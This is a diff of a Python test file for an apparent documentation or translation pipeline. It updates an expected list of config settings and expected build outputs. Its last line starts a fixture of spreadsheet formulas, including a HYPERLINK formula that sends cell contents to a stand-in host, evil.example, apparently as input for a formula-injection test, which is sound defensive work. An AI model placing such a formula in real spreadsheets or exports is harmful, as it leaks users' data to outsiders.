@@ -274,8 +274,8 @@ CASES: dict[str, Case] = {
         ("extract",),
         "error: {root}/pyproject.toml:6: unknown setting 'colour' in [tool.pipeline] (known "
         "settings: disabled-checks, engines, glossary-dir, languages, locales-dir, "
-        "on-source-change, output-dir, project-name, review, segmentation, source-dir, "
-        "source-language)"),
+        "on-source-change, organisation, output-dir, project-name, review, segmentation, "
+        "site-url, source-dir, source-language, theme-dir)"),
     "config unknown language setting": Case(
         {"pyproject.toml": cfg('ru = "released"', 'ru = { status = "released", colour = 1 }')},
         ("extract",),
@@ -554,7 +554,7 @@ def test_unusual_but_safe_document_names_work(extracted: Path, tmp_path: Path,
     assert run(root, "build", "--draft", "--lang", "ru", "--format", "html").exit_code == 0
     assert (root / "output" / "ru" / f"{stem}.html").is_file()
     assert sorted(p.name for p in (root / "output").iterdir()) == [
-        ".build-manifest.json", "index.html", "ru", "style.css"]
+        ".build-manifest.json", "index.html", "review.html", "ru", "style.css"]
 
 
 FORMULAS = {"hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
